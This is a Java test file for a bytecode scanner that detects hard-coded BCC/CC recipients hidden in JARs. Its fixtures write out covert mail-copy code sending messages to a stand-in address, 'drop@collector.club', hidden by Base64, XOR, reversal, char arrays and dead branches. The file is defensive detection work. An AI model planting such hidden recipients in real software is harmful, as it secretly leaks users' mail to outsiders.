package dev.assay.scanners.jvm;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.scanners.finding.FindingKind;
import dev.assay.scanners.finding.Via;
import dev.assay.scanners.profile.Fact;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.util.Base64;

/** A fixed address at a place of copies is told, however it is written and wherever it goes. */
class BytecodeRecipientsTest {

    private static final String ADDRESS = "drop@collector.club";
    private static final String ENCODED = Base64.getEncoder().encodeToString(ADDRESS.getBytes());

    @ParameterizedTest
    @ValueSource(
            strings = {
                "var m = new jakarta.mail.internet.MimeMessage(null); m.addRecipient(jakarta.mail.Message.RecipientType.BCC, new jakarta.mail.internet.InternetAddress(ADDRESS)); jakarta.mail.Transport.send(m); return m;",
                "var m = new jakarta.mail.internet.MimeMessage(null); m.setRecipients(jakarta.mail.Message.RecipientType.CC, jakarta.mail.internet.InternetAddress.parse(ADDRESS)); return m;",
                "var m = new jakarta.mail.internet.MimeMessage(null); m.setRecipients(jakarta.mail.Message.RecipientType.BCC, new jakarta.mail.Address[] {new jakarta.mail.internet.InternetAddress(text), new jakarta.mail.internet.InternetAddress(ADDRESS)}); return m;",
                "var m = new jakarta.mail.internet.MimeMessage(null); m.addRecipients(jakarta.mail.Message.RecipientType.BCC, text + \",\" + ADDRESS); return m;",
                "var m = new jakarta.mail.internet.MimeMessage(null); m.setHeader(\"Bcc\", ADDRESS); return m;",
                "var m = new org.springframework.mail.SimpleMailMessage(); m.setBcc(ADDRESS); return m;",
                "var m = new org.springframework.mail.SimpleMailMessage(); m.setBcc(text, ADDRESS); return m;",
                "var m = new org.springframework.mail.SimpleMailMessage(); m.setCc(ADDRESS); return m;",
                "new org.springframework.mail.javamail.MimeMessageHelper(null).addBcc(ADDRESS); return null;",
                "return Map.of(\"to\", text, \"bcc\", ADDRESS);",
                "return List.of(\"bcc\", ADDRESS);",
                "return new String[] {\"Bcc\", ADDRESS}.clone() == null ? null : Arrays.asList(new String[] {\"Bcc\", ADDRESS});",
                "var map = new HashMap<String, Object>(); map.put(\"Bcc\", ADDRESS); return map;",
                "var map = new HashMap<String, Object>(); map.put(\"bcc\", List.of(text, ADDRESS)); return map;",
                "var map = new HashMap<String, Object>(); map.put(\"b\".concat(\"cc\"), ADDRESS); return map;",
                "return new com.fasterxml.jackson.databind.ObjectMapper().createObjectNode().put(\"Bcc\", ADDRESS);",
                "return \"{\\\"to\\\": \\\"\" + text + \"\\\", \\\"bcc\\\": \\\"\" + ADDRESS + \"\\\"}\";",
                "return String.format(\"{\\\"bcc\\\": \\\"%s\\\"}\", ADDRESS);",
                "var json = new StringBuilder(\"{\"); json.append(\"\\\"bcc\\\":\\\"\").append(ADDRESS).append('\"'); return json.toString();",
                "return \"RCPT TO:<\" + ADDRESS + \">\\r\\n\";",
                "java.util.function.Consumer<org.springframework.mail.SimpleMailMessage> c = m -> m.setBcc(ADDRESS); return c;"
            })
    void tellsACopyWhereverItIsWritten(String body) {
        for (var written :
                new String[] {
                    "\"" + ADDRESS + "\"",
                    "(\"drop@\" + \"collector.club\".trim())",
                    "new String(Base64.getDecoder().decode(\"" + ENCODED + "\"))"
                }) {
            assertThat(
                            Jars.body(body.replace("ADDRESS", written))
                                    .values(FindingKind.CONSTANT_RECIPIENT))
                    .as(written)
                    .contains(ADDRESS);
        }
    }

    @Test
    void tellsAnAddressFromAConstantOfAnotherClass() {
        assertThat(
                        Jars.body(
                                        "var m = new org.springframework.mail.SimpleMailMessage(); m.setBcc(Settings.copy()); return m;")
                                .with(
                                        "package a; class Settings { static final String[] PARTS = {\"drop\", \"collector.club\"}; static final String AT = String.join(\"@\", PARTS); static String copy() { return AT; } }")
                                .values(FindingKind.CONSTANT_RECIPIENT))
                .containsExactly(ADDRESS);
    }

    @Test
    void tellsAnAddressThatAnOwnMethodDecodesInALoop() {
        var secret = new StringBuilder();
        ADDRESS.chars().forEach(c -> secret.append((char) (c ^ 3)));
        var jar =
                Jars.members(
                        "static String open(String s) { char[] c = s.toCharArray(); for (int i = 0; i < c.length; i++) { c[i] ^= 3; } return new String(c); }"
                                + " Object act() { return Map.of(\"bcc\", open(\""
                                + secret
                                + "\")); }");
        assertThat(jar.facts(FindingKind.CONSTANT_RECIPIENT))
                .singleElement()
                .satisfies(fact -> assertThat(fact.value()).isEqualTo(ADDRESS))
                .extracting(Fact::via)
                .isEqualTo(Via.DECODED);
    }

    @Test
    void tellsAnAddressInCharactersAndBackwards() {
        assertThat(
                        Jars.body(
                                        "return Map.of(\"bcc\", new String(new char[] {'d','r','o','p','@','a','b','.','i','o'}));")
                                .values(FindingKind.CONSTANT_RECIPIENT))
                .containsExactly("drop@ab.io");
        assertThat(
                        Jars.body(
                                        "return Map.of(\"bcc\", new StringBuilder(\"oi.ba@pord\").reverse().toString());")
                                .values(FindingKind.CONSTANT_RECIPIENT))
                .containsExactly("drop@ab.io");
    }

    @Test
    void tellsAnAddressThatIsHandedToARecordOrAMethodOfTheJar() {
        assertThat(
                        Jars.body("return new Mail(text, \"" + ADDRESS + "\");")
                                .with("package a; record Mail(String to, String bcc) {}")
                                .values(FindingKind.CONSTANT_RECIPIENT))
                .containsExactly(ADDRESS);
        assertThat(
                        Jars.body("return new Mail().fill(text, \"" + ADDRESS + "\");")
                                .with(
                                        "package a; class Mail { String blind; Mail fill(String to, String bcc) { blind = bcc; return this; } }")
                                .values(FindingKind.CONSTANT_RECIPIENT))
                .containsExactly(ADDRESS);
    }

    @Test
    void tellsAnAddressBesideAKindOfTheJarsOwn() {
        assertThat(
                        Jars.body("return new Mail().add(Mail.Kind.BCC, \"" + ADDRESS + "\");")
                                .with(
                                        "package a; class Mail { enum Kind { TO, BCC } Mail add(Kind kind, String who) { return this; } }")
                                .values(FindingKind.CONSTANT_RECIPIENT))
                .containsExactly(ADDRESS);
    }

    @Test
    void tellsAnAddressBehindAConditionThatNeverHolds() {
        assertThat(
                        Jars.body(
                                        "int no = 0; if (no > 1) { return Map.of(\"bcc\", \""
                                                + ADDRESS
                                                + "\"); } return null;")
                                .values(FindingKind.CONSTANT_RECIPIENT))
                .containsExactly(ADDRESS);
    }

    @Test
    void letsAddressesPassThatNobodyGetsAnythingAt() {
        assertThat(
                        Jars.body(
                                        "System.out.println(\""
                                                + ADDRESS
                                                + "\"); return Map.of(\"author\", \""
                                                + ADDRESS
                                                + "\", \"bcc\", text, \"cc\", \"me@example.com\");")
                                .values(FindingKind.CONSTANT_RECIPIENT))
                .isEmpty();
    }
}
